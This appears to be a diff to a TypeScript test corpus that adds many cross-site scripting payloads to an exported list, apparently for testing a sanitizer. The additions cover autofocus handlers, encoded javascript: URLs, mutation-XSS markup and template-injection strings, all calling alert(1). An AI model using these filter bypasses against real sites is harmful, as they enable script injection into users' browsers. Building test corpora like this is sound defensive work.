@@ -3,7 +3,7 @@
 const CALL = 'alert(1)';
 const BARE = 'alert`1`';
 
-export const PAYLOADS: readonly string[] = [
+const USUAL: readonly string[] = [
   `<script>${CALL}</script>`,
   `<ScRiPt>${CALL}</sCrIpT>`,
   `<script src=//127.0.0.1:9/x.js></script>`,
@@ -75,4 +75,167 @@ export const PAYLOADS: readonly string[] = [
   `\u003cimg src=x onerror=${CALL}\u003e`,
   `＜img src=x onerror=${CALL}＞<img src=x onerror=${CALL}>`,
   `\u202e<img src=x onerror=${CALL}>`,
+];
+
+/** Elements that get the focus, or load, without anybody doing anything. */
+const BY_THEMSELVES = [
+  ...['a href=# ', 'button ', 'div tabindex=0 ', 'p contenteditable ', 'summary '].map(
+    (tag) => `<${tag}autofocus onfocus=${CALL}>x`,
+  ),
+  ...['img src=x', 'input type=image src=x', 'video><source src=x', 'audio><source src=x'].map(
+    (tag) => `<${tag} onerror=${CALL}>`,
+  ),
+  ...[
+    'object data=x',
+    'embed src=x',
+    'script src=//127.0.0.1:9',
+    'link rel=preload as=script href=x',
+  ].map((tag) => `<${tag} onerror=${CALL}>`),
+  ...['iframe', 'frameset', 'style', 'svg', 'body', 'link rel=stylesheet href=/'].map(
+    (tag) => `<${tag} onload=${CALL}>`,
+  ),
+  `<video autoplay muted onloadstart=${CALL} src=x>`,
+  `<video onloadedmetadata=${CALL}><source src=/favicon.svg></video>`,
+  `<audio autoplay oncanplay=${CALL} src=data:audio/wav;base64,UklGRg>`,
+  `<svg><animate onend=${CALL} attributeName=x dur=1ms>`,
+  `<svg><set onbegin=${CALL} attributename=x to=y>`,
+  `<svg><image href=x onerror=${CALL}>`,
+  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
+  `<picture><source srcset=x><img onerror=${CALL} src=x></picture>`,
+  `<body onresize=${CALL} onscroll=${CALL} onhashchange=${CALL}>`,
+  `<marquee loop=1 width=0 onfinish=${CALL}>x</marquee>`,
+  `<dialog open onclose=${CALL}><form method=dialog><button autofocus>x`,
+  `<div popover id=p onbeforetoggle=${CALL}></div><button popovertarget=p autofocus>x`,
+  `<style>@keyframes x{}</style><b style=animation:x onanimationend=${CALL}>x`,
+  `<b style=transition:outline 1ms ontransitionend=${CALL} id=x tabindex=1>x`,
+  `<input onauxclick=${CALL} onpointerenter=${CALL} onwheel=${CALL}>`,
+  `<b oncontentvisibilityautostatechange=${CALL} style=content-visibility:auto>x`,
+];
+
+/** The same address to a script, as filters forget to read it. */
+const ADDRESSES = [
+  'javascript&colon;alert(1)',
+  'javascript&#58;alert(1)',
+  'javascript&#x3A;alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6a avascript:alert(1)',
+  ' javascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'java\nscript:alert(1)',
+  'java\rscript:alert(1)',
+  'java&Tab;script:alert(1)',
+  'java&NewLine;script:alert(1)',
+  'JAVASCRIPT:alert`1`',
+  'javascript://%0aalert(1)',
+  'javascript://x%0d%0aalert(1)//',
+  'javascript:/*--></title>*/alert(1)',
+  'javascript:void(alert(1))',
+  'vbscript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  'data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg">',
+  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
+  'blob:javascript:alert(1)',
+  'view-source:javascript:alert(1)',
+  'jar:javascript:alert(1)!/',
+  'feed:javascript:alert(1)',
+].map((address) => `<a href="${address}">x</a>`);
+
+/** What is harmless until somebody decodes, joins or cleans it once too often. */
+const SPELLINGS = [
+  `%253Cscript%253E${CALL}%253C/script%253E`,
+  `&#60;script&#62;${CALL}&#60;/script&#62;`,
+  `&#x3c;img src=x onerror=${CALL}&#x3e;`,
+  `&#x000003c;img src=x onerror=${CALL}&#x000003e;`,
+  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
+  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
+  `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
+  `\\u003cimg src=x onerror=${CALL}\\u003e`,
+  `%u003Cscript%u003E${CALL}`,
+  `\u00bcscript\u00be${CALL}\u00bc/script\u00be`,
+  `<\u0000script>${CALL}</script>`,
+  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
+  `<script\u0020>${CALL}</script\u0020>`,
+  `<script\u000c>${CALL}</script>`,
+  `<<script>${CALL}//<</script>`,
+  `<script>${CALL}<!--`,
+  `<!--><script>${CALL}</script>-->`,
+  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
+  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
+  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${CALL}>">]>&y;`,
+  `<img src=\`x\` onerror=\`${CALL}\`>`,
+  `<img/alt="/"src="/"onerror=${CALL}>`,
+  `<img src onerror =\u000b${CALL}>`,
+  `<a/onmouseover=${CALL}//x>x`,
+  `<x onclick=${CALL} style=position:fixed;inset:0>x`,
+  `<isindex type=image src=x onerror=${CALL}>`,
+  `\u2028<img src=x onerror=${CALL}>\u2029`,
+  `\ufeff<script>${CALL}</script>`,
+  `\u001b]8;;javascript:${CALL}\u0007x\u001b]8;;\u0007`,
+];
+
+/** Markup that another parser reads differently from the first. */
+const MUTATIONS = [
+  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
+  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CALL}></style>`,
+  `<svg><title><style><img src=x onerror=${CALL}></style></title></svg>`,
+  `<noembed><img src="</noembed><img src=x onerror=${CALL}>"></noembed>`,
+  `<noframes><img src="</noframes><img src=x onerror=${CALL}>">`,
+  `<plaintext><img src=x onerror=${CALL}>`,
+  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
+  `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`,
+  `<title><img title="</title><img src=x onerror=${CALL}>">`,
+  `<select><template><img src=x onerror=${CALL}></template></select>`,
+  `<table><td><form><table></form><img src=x onerror=${CALL}></table>`,
+  `<form><form><img src=x onerror=${CALL}></form></form>`,
+  `<a href="x"<img src=x onerror=${CALL}>`,
+  `<b attr="><img src=x onerror=${CALL}>">`,
+  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
+];
+
+/** Names and words that pages, templates and styles trip over. */
+const NAMES = [
+  `<img name=body id=documentElement src=x onerror=${CALL}>`,
+  `<form id=__proto__><input name=innerHTML value="<img src=x onerror=${CALL}>">`,
+  `<a id=config><a id=config name=url href="javascript:${CALL}">x</a>`,
+  `<iframe name=opener srcdoc="<img src=x onerror=parent.${CALL}>"></iframe>`,
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  `{{ ''.constructor.constructor('${CALL}')() }}`,
+  `{%raw%}<img src=x onerror=${CALL}>{%endraw%}`,
+  `<%= ${CALL} %>`,
+  `#{${CALL}}`,
+  `[[\${${CALL}}]]`,
+  `<div v-html="'<img src=x onerror=${CALL}>'" ng-init="${CALL}" x-init="${CALL}">x</div>`,
+  `<b data-mantine-color-scheme=x onmouseenter=${CALL}>x</b>`,
+  `<autolink:javascript:${CALL}>`,
+  `[x]: javascript:${CALL} "x"`,
+  `<javascript:${CALL}>`,
+  `\\href{javascript:${CALL}}{x}`,
+  `~~~html\n<img src=x onerror=${CALL}>\n~~~`,
+  `=HYPERLINK("javascript:${CALL}","x")`,
+  `</script><style>*{display:none}</style>`,
+  `<style>body{background:url("javascript:${CALL}")}</style>`,
+  `<style>@import url("data:text/css,*{background:url(//127.0.0.1:9/y.png)}");</style>`,
+  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
+  `<b style="width:expression(${CALL})">x</b>`,
+  `<b style="-moz-binding:url(//127.0.0.1:9/x.xml#x)">x</b>`,
+  `<b style="behavior:url(#default#time2)" onbegin=${CALL}>x</b>`,
+  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>${CALL}</script>`,
+  `<meta http-equiv=set-cookie content="name=x">`,
+  `<iframe src=//127.0.0.1:9/frame sandbox=allow-scripts></iframe>`,
+  `<portal src="javascript:${CALL}"></portal>`,
+  `<input type=hidden accesskey=x onclick=${CALL}>`,
+];
+
+export const PAYLOADS: readonly string[] = [
+  ...USUAL,
+  ...BY_THEMSELVES,
+  ...ADDRESSES,
+  ...SPELLINGS,
+  ...MUTATIONS,
+  ...NAMES,
 ];
